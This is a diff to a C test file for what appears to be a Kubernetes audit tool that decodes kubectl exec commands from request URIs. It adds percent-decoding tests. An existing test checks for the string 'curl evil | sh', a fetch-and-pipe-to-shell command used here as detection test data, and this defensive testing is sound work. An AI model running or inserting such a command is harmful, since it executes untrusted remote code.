@@ -1,5 +1,6 @@
 /* SPDX-License-Identifier: BSD-2-Clause */
 /* kubectl exec / attach commands decoded from requestURI. */
+#include <stdio.h>
 #include <string.h>
 
 #include "test.h"
@@ -149,4 +150,34 @@ K8A_TEST(exec_nul_byte_does_not_hide_arguments)
 
 	CHECK_EQ_INT(n, 3);
 	CHECK(strstr(out, "curl evil | sh") != NULL);
+}
+
+K8A_TEST(pct_decode)
+{
+	char dec[64], in[64];
+	size_t n;
+
+	n = k8a_pct_decode("arn%3Aaws%3Aiam%3A%3A1%3Arole%2Fa+b", 35, 0, dec);
+	CHECK_EQ_STR(dec, "arn:aws:iam::1:role/a+b");
+	CHECK_EQ_INT(n, 23);
+	k8a_pct_decode("a+b%2B", 6, K8A_PCT_PLUS, dec);
+	CHECK_EQ_STR(dec, "a b+");
+	/* malformed or cut escapes stay; hex in either case */
+	k8a_pct_decode("%zz%4%", 6, 0, dec);
+	CHECK_EQ_STR(dec, "%zz%4%");
+	k8a_pct_decode("%2f%2F", 6, 0, dec);
+	CHECK_EQ_STR(dec, "//");
+	/* only n bytes are read: the escape cut by n stays */
+	k8a_pct_decode("x%41", 3, 0, dec);
+	CHECK_EQ_STR(dec, "x%4");
+	/* %00: a NUL byte counted in the length, or kept encoded */
+	n = k8a_pct_decode("a%00b", 5, 0, dec);
+	CHECK_EQ_MEM(dec, n, "a\0b", 3);
+	n = k8a_pct_decode("a%00b", 5, K8A_PCT_KEEP_NUL, dec);
+	CHECK_EQ_STR(dec, "a%00b");
+	CHECK_EQ_INT(n, 5);
+	/* any byte, UTF-8 or not; in place */
+	snprintf(in, sizeof(in), "%%FF%%C3%%A9");
+	n = k8a_pct_decode(in, strlen(in), 0, in);
+	CHECK_EQ_MEM(in, n, "\xff\xc3\xa9", 3);
 }
